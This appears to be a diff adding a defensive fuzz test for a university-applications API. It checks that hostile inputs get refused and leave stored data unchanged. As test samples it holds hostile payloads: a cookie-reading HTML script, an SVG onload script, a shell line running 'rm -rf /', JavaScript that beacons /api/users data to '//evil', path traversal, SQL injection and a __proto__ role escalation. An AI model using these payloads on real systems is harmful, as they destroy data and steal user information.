@@ -1,0 +1,273 @@
+/**
+ * Fuzz: at least 200 seeded hostile inputs per write route, sent by the most
+ * privileged caller the route admits. Each must get a 4xx with a string
+ * `message` and no stack trace, and afterwards every table (row count and md5
+ * of all rows) and the files folder must be exactly as before.
+ *
+ * Write routes fuzzed elsewhere (auth.test.ts: register, login, request-reset,
+ * reset-password, subscribers, PUT /api/users/:id) and routes that take no
+ * input at all (logout, DELETE /api/users/me) are named below, so the list
+ * check fails when a new write route appears without fuzzing.
+ */
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { applicationJson, postMultipart, sampleDocuments, type Part } from '../fixtures/applications';
+import { samplePdf } from '../fixtures/samples';
+import { startTestApp, type TestApp } from '../helpers/test-app';
+import { createFullWorld, databaseState, folderState, type FullWorld } from '../helpers/world-full';
+import { hostileBodies, hostileIds, isRaw, type FieldKind } from './hostile-inputs';
+import { registeredRoutes } from './routes';
+
+const FUZZED_ELSEWHERE = ['POST /api/auth/register', 'POST /api/auth/login', 'POST /api/auth/request-reset', 'POST /api/auth/reset-password', 'POST /api/subscribers', 'PUT /api/users/:id'];
+const NO_INPUT = ['POST /api/auth/logout', 'DELETE /api/users/me'];
+const MULTIPART = ['POST /api/applications'];
+
+interface FuzzRoute {
+  method: 'POST' | 'PUT' | 'DELETE';
+  route: string;
+  url: (w: FullWorld, id?: string) => string;
+  /** Valid body, or none for DELETE. */
+  valid?: Record<string, unknown>;
+  fields?: Record<string, FieldKind>;
+  as: 'superuser' | 'owner';
+  headers?: Record<string, string>;
+}
+
+const text = (max: number): FieldKind => ({ kind: 'text', max });
+
+function fuzzRoutes(w: FullWorld): FuzzRoute[] {
+  return [
+    { method: 'POST', route: '/api/universities', url: () => '/api/universities', valid: { name: 'Fuzz University', location: 'Ndola' }, fields: { name: text(200) }, as: 'superuser' },
+    { method: 'PUT', route: '/api/universities/:id', url: (x, id) => `/api/universities/${id ?? x.uniA.id}`, valid: { name: 'Renamed', location: 'Ndola' }, fields: { name: text(200) }, as: 'superuser' },
+    { method: 'DELETE', route: '/api/universities/:id', url: (_x, id) => `/api/universities/${id}`, as: 'superuser' },
+    {
+      method: 'POST',
+      route: '/api/programs',
+      url: () => '/api/programs',
+      valid: { name: 'Fuzz Program', description: 'About', duration: 3, universityId: w.uniA.id },
+      fields: { name: text(200), description: text(5000) },
+      as: 'superuser',
+    },
+    {
+      method: 'PUT',
+      route: '/api/programs/:id',
+      url: (x, id) => `/api/programs/${id ?? x.programA1.id}`,
+      valid: { name: 'Edited', description: 'About', duration: 4 },
+      fields: { name: text(200), description: text(5000) },
+      as: 'superuser',
+    },
+    { method: 'DELETE', route: '/api/programs/:id', url: (_x, id) => `/api/programs/${id}`, as: 'superuser' },
+    {
+      method: 'POST',
+      route: '/api/courses',
+      url: () => '/api/courses',
+      valid: { courseName: 'Fuzz', courseDescription: 'About', semesterToBeDone: 1, yearToBeStudied: 1, programId: w.programA1.id },
+      fields: { courseName: text(200), courseDescription: text(5000), programId: { kind: 'id' }, semesterToBeDone: { kind: 'small-int', max: 20 }, yearToBeStudied: { kind: 'small-int', max: 10 } },
+      as: 'superuser',
+    },
+    {
+      method: 'PUT',
+      route: '/api/courses/:id',
+      url: (x, id) => `/api/courses/${id ?? x.courseA1.id}`,
+      valid: { courseName: 'Edited', courseDescription: 'About', sermisterToBeDone: 2, yearToBeStudied: 2 },
+      fields: { courseName: text(200), courseDescription: text(5000), sermisterToBeDone: { kind: 'small-int', max: 20 }, yearToBeStudied: { kind: 'small-int', max: 10 } },
+      as: 'superuser',
+    },
+    { method: 'DELETE', route: '/api/courses/:id', url: (_x, id) => `/api/courses/${id}`, as: 'superuser' },
+    {
+      method: 'PUT',
+      route: '/api/applications/:id',
+      url: (x, id) => `/api/applications/${id ?? x.applicationA}`,
+      valid: { status: 'Rejected', reviewNotes: 'Missing results' },
+      fields: { status: { kind: 'status' }, reviewNotes: text(5000) },
+      as: 'superuser',
+    },
+    { method: 'POST', route: '/api/payments/initiate', url: () => '/api/payments/initiate', valid: { applicationId: w.applicationA }, fields: { applicationId: { kind: 'id' } }, as: 'owner' },
+    {
+      method: 'POST',
+      route: '/api/payments/webhook',
+      url: () => '/api/payments/webhook',
+      valid: { event: 'collection.successful', data: { reference: w.paymentA.reference, status: 'successful' } },
+      fields: { event: text(100) },
+      as: 'superuser',
+      headers: { 'x-lenco-signature': 'f'.repeat(64) },
+    },
+  ];
+}
+
+function assertRefused(res: { statusCode: number; body: string; headers: Record<string, unknown> }, where: string, problems: string[]) {
+  if (res.statusCode < 400 || res.statusCode >= 500) {
+    problems.push(`${where}: status ${res.statusCode} ${res.body.slice(0, 120)}`);
+    return;
+  }
+  let body: { message?: unknown };
+  try {
+    body = JSON.parse(res.body) as { message?: unknown };
+  } catch {
+    problems.push(`${where}: not JSON: ${res.body.slice(0, 80)}`);
+    return;
+  }
+  if (typeof body.message !== 'string' || body.message.length === 0) problems.push(`${where}: no message`);
+  if (/\bat \S+ \(|\.ts:\d+|node_modules|stack/i.test(res.body)) problems.push(`${where}: stack trace text`);
+}
+
+describe('fuzz of every write route', () => {
+  let t: TestApp;
+  let w: FullWorld;
+  before(async () => {
+    t = await startTestApp();
+    w = await createFullWorld(t);
+  });
+  after(async () => t.close());
+
+  it('covers every registered write route (here, in auth.test.ts, or as the multipart set)', () => {
+    const fuzzed = new Set(fuzzRoutes(w).map((r) => `${r.method} ${r.route}`));
+    const writes = registeredRoutes(t.app)
+      .filter((r) => r.url.startsWith('/api') && ['POST', 'PUT', 'DELETE', 'PATCH'].includes(r.method))
+      .map((r) => `${r.method} ${r.url}`);
+    const uncovered = writes.filter((r) => !fuzzed.has(r) && !FUZZED_ELSEWHERE.includes(r) && !NO_INPUT.includes(r) && !MULTIPART.includes(r));
+    assert.deepEqual(uncovered, []);
+    assert.ok(writes.length >= 20);
+  });
+
+  for (const [index, name] of [
+    'POST /api/universities',
+    'PUT /api/universities/:id',
+    'DELETE /api/universities/:id',
+    'POST /api/programs',
+    'PUT /api/programs/:id',
+    'DELETE /api/programs/:id',
+    'POST /api/courses',
+    'PUT /api/courses/:id',
+    'DELETE /api/courses/:id',
+    'PUT /api/applications/:id',
+    'POST /api/payments/initiate',
+    'POST /api/payments/webhook',
+  ].entries()) {
+    it(`${name}: 200+ hostile inputs → 4xx with a message, database and files unchanged`, async () => {
+      const route = fuzzRoutes(w).find((r) => `${r.method} ${r.route}` === name)!;
+      const token = route.as === 'owner' ? w.userA.token : w.superuser.token;
+      const beforeDb = await databaseState(t);
+      const beforeFiles = folderState(t.dataDir);
+      const problems: string[] = [];
+      let sent = 0;
+      const send = async (url: string, body: unknown, label: string) => {
+        const raw = isRaw(body);
+        const res = await t.app.inject({
+          method: route.method,
+          url,
+          headers: {
+            authorization: `Bearer ${token}`,
+            ...(route.headers ?? {}),
+            ...(raw ? { 'content-type': body.contentType ?? 'application/json' } : body !== undefined ? { 'content-type': 'application/json' } : {}),
+          },
+          ...(raw ? { payload: body.raw } : body !== undefined ? { payload: JSON.stringify(body) } : {}),
+        });
+        sent += 1;
+        assertRefused(res, `${name} #${label}`, problems);
+      };
+      const ids = hostileIds();
+      if (route.valid && route.fields) {
+        const bodies = hostileBodies(route.valid, route.fields, 9000 + index);
+        for (const [i, body] of bodies.entries()) await send(route.url(w), body, String(i));
+        // A valid body on a hostile id.
+        if (route.route.includes(':id')) for (const id of ids) await send(route.url(w, id), route.valid, `id ${id}`);
+      } else {
+        // DELETE: hostile ids, with and without hostile bodies and query strings.
+        const bodies = hostileBodies({ name: 'x' }, { name: text(10) }, 9000 + index, 100);
+        for (const [i, id] of ids.entries()) {
+          await send(route.url(w, id), undefined, `id ${id}`);
+          await send(`${route.url(w, id)}?cascade=true&force=1`, bodies[i % bodies.length], `id ${id} + body`);
+        }
+        for (const [i, body] of bodies.entries()) await send(route.url(w, ids[i % ids.length]), body, `body ${i}`);
+      }
+      assert.ok(sent >= 200, `only ${sent} inputs`);
+      assert.deepEqual(problems, []);
+      const afterDb = await databaseState(t);
+      if (route.route === '/api/payments/webhook') {
+        // Refused webhooks are audited on purpose (who tried, from where); nothing else may change.
+        assert.notEqual(afterDb.audit_log, beforeDb.audit_log, 'refused webhooks are audited');
+        delete afterDb.audit_log;
+        delete beforeDb.audit_log;
+      }
+      assert.deepEqual(afterDb, beforeDb, 'the database changed');
+      assert.deepEqual(folderState(t.dataDir), beforeFiles, 'the files folder changed');
+    });
+  }
+
+  describe('the multipart upload', () => {
+    const html = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>');
+    const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
+    const script = Buffer.from('#!/bin/sh\nrm -rf / --no-preserve-root\n');
+    const js = Buffer.from('fetch("/api/users").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))');
+    const appPart = (w0: FullWorld): Part => ({ name: 'application', value: JSON.stringify(applicationJson([w0.programA1.id])) });
+    const withFirstReplaced = (value: Buffer, filename: string, contentType = 'application/pdf'): Part[] => {
+      const docs = sampleDocuments();
+      docs[0] = { name: 'files', value, filename, contentType };
+      return docs;
+    };
+
+    it('refuses HTML, SVG, a script and JavaScript named .pdf with 415, and stores nothing', async () => {
+      const beforeDb = await databaseState(t);
+      const beforeFiles = folderState(t.dataDir);
+      for (const [value, filename] of [
+        [html, 'results.pdf'],
+        [svg, 'nrc.pdf'],
+        [script, 'certificate.pdf'],
+        [js, 'nrc-front.pdf'],
+        [svg, 'nrc.png'],
+        [html, '../../../etc/passwd.pdf'],
+      ] as Array<[Buffer, string]>) {
+        const res = await postMultipart(t, w.userA.token, [appPart(w), ...withFirstReplaced(value, filename)]);
+        assert.equal(res.statusCode, 415, `${filename}: ${res.body}`);
+        assert.equal(typeof res.json().message, 'string');
+      }
+      assert.deepEqual(await databaseState(t), beforeDb);
+      assert.deepEqual(folderState(t.dataDir), beforeFiles);
+    });
+
+    it('refuses an oversize file with 413 and stores nothing', async () => {
+      const beforeDb = await databaseState(t);
+      const beforeFiles = folderState(t.dataDir);
+      const big = samplePdf(t.config.uploads.maxFileBytes + 1024);
+      const res = await postMultipart(t, w.userA.token, [appPart(w), ...withFirstReplaced(big, 'results.pdf')]);
+      assert.equal(res.statusCode, 413, res.body);
+      assert.equal(typeof res.json().message, 'string');
+      assert.deepEqual(await databaseState(t), beforeDb);
+      assert.deepEqual(folderState(t.dataDir), beforeFiles);
+    });
+
+    it('refuses missing parts, bad JSON, five files and wrong field names with a 4xx, and stores nothing', async () => {
+      const beforeDb = await databaseState(t);
+      const beforeFiles = folderState(t.dataDir);
+      const docs = sampleDocuments();
+      const cases: Array<[string, Part[]]> = [
+        ['no parts at all', []],
+        ['no application part', docs],
+        ['no files', [appPart(w)]],
+        ['three files', [appPart(w), ...docs.slice(0, 3)]],
+        ['five files', [appPart(w), ...docs, { ...docs[2]!, filename: 'extra.pdf' }]],
+        ['bad JSON', [{ name: 'application', value: '{"programIds": [1,' }, ...docs]],
+        ['JSON of the wrong shape', [{ name: 'application', value: '[1,2,3]' }, ...docs]],
+        ['hostile JSON', [{ name: 'application', value: JSON.stringify(applicationJson([w.programA1.id], { fullName: "'; DROP TABLE users; --".repeat(200), status: 'APPROVED' })) }, ...docs]],
+        ['__proto__ in JSON', [{ name: 'application', value: `{"__proto__":{"role":"SUPERUSER"},${JSON.stringify(applicationJson([w.programA1.id])).slice(1)}` }, ...docs]],
+        ['wrong file field name', [appPart(w), ...docs.map((d) => ({ ...d, name: 'documents' }))]],
+        ['wrong application field name', [{ ...appPart(w), name: 'app' }, ...docs]],
+        ['file in the application field', [{ name: 'application', value: samplePdf(), filename: 'a.pdf', contentType: 'application/pdf' }, ...docs]],
+        ['programs of two universities', [{ name: 'application', value: JSON.stringify(applicationJson([w.programA1.id, w.programB1.id])) }, ...docs]],
+        ['a program that does not exist', [{ name: 'application', value: JSON.stringify(applicationJson([2_000_000_000])) }, ...docs]],
+        ['traversal in programIds', [{ name: 'application', value: JSON.stringify(applicationJson(['../1' as unknown as number])) }, ...docs]],
+      ];
+      for (const [label, parts] of cases) {
+        const res = await postMultipart(t, w.userA.token, parts);
+        assert.ok(res.statusCode >= 400 && res.statusCode < 500, `${label}: ${res.statusCode} ${res.body}`);
+        assert.equal(typeof res.json().message, 'string', label);
+      }
+      // Not multipart at all.
+      const json = await t.app.inject({ method: 'POST', url: '/api/applications', headers: { authorization: `Bearer ${w.userA.token}` }, payload: applicationJson([w.programA1.id]) });
+      assert.ok(json.statusCode >= 400 && json.statusCode < 500, json.body);
+      assert.deepEqual(await databaseState(t), beforeDb);
+      assert.deepEqual(folderState(t.dataDir), beforeFiles);
+    });
+  });
+});
